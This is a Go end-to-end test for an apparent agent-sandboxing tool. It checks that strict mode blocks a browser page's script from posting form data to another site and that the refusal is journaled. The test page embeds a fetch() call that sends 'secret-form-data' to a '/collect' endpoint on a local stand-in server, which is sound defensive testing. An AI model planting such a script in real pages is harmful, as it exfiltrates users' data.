package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/gatehouse/gatehouse/broker"
)

// TestBrowserThroughServe drives Chromium through `gatehouse serve` from
// the CLI: the agent opens a page and reads it, clicks a button whose
// script posts to another site, and strict mode keeps the post from
// leaving; the journal verifies.
func TestBrowserThroughServe(t *testing.T) {
	var received atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		received.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer other.Close()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><h1 id="t">Invoices</h1>
<button id="b" onclick="fetch('%s/collect',{method:'POST',mode:'no-cors',body:'secret-form-data'}).then(()=>document.getElementById('t').textContent='sent')">go</button>`, other.URL)
	}))
	defer site.Close()

	data := t.TempDir()
	s := serve(t, data, "--mode", "strict")
	run := strings.TrimSpace(gh(t, "work", "open", "--data-dir", data, "--tenant", "acme", "--person", "ada").stdout)
	act := func(action, params string) broker.EffectReply {
		t.Helper()
		r := gh(t, "effect", "browser", "--data-dir", data, "--run", run, "--action", action, "--params", params, "--json", "--timeout", "60s")
		var reply broker.EffectReply
		if err := json.Unmarshal([]byte(r.stdout), &reply); err != nil || r.code != 0 {
			t.Fatalf("%s: exit %d %v\n%s%s", action, r.code, err, r.stdout, r.stderr)
		}
		return reply
	}
	act("goto", `{"url":"`+site.URL+`/"}`)
	if r := act("text", `{"selector":"#t"}`); !strings.Contains(string(r.Result), "Invoices") {
		t.Fatalf("text: %s", r.Result)
	}
	act("click", `{"selector":"#b"}`)
	act("text", `{"selector":"#t"}`) // give the page's fetch time to be decided
	if n := received.Load(); n != 0 {
		t.Fatalf("the other site received %d requests in strict mode", n)
	}
	if r := gh(t, "work", "close", "--data-dir", data, run); r.code != 0 {
		t.Fatalf("work close: %s", r.stderr)
	}
	s.stop(t)
	v := gh(t, "verify", "--json", filepath.Join(data, "journal"))
	if v.code != 0 || !strings.Contains(v.stdout, `"ok":true`) {
		t.Fatalf("verify: %s", v.stdout)
	}
	b := readRun(t, data, run)
	if !strings.Contains(b, `"refusal":"browser-send-off-site"`) || strings.Contains(b, "secret-form-data") {
		t.Fatalf("the refused send is not on record, or its body is:\n%s", b)
	}
}
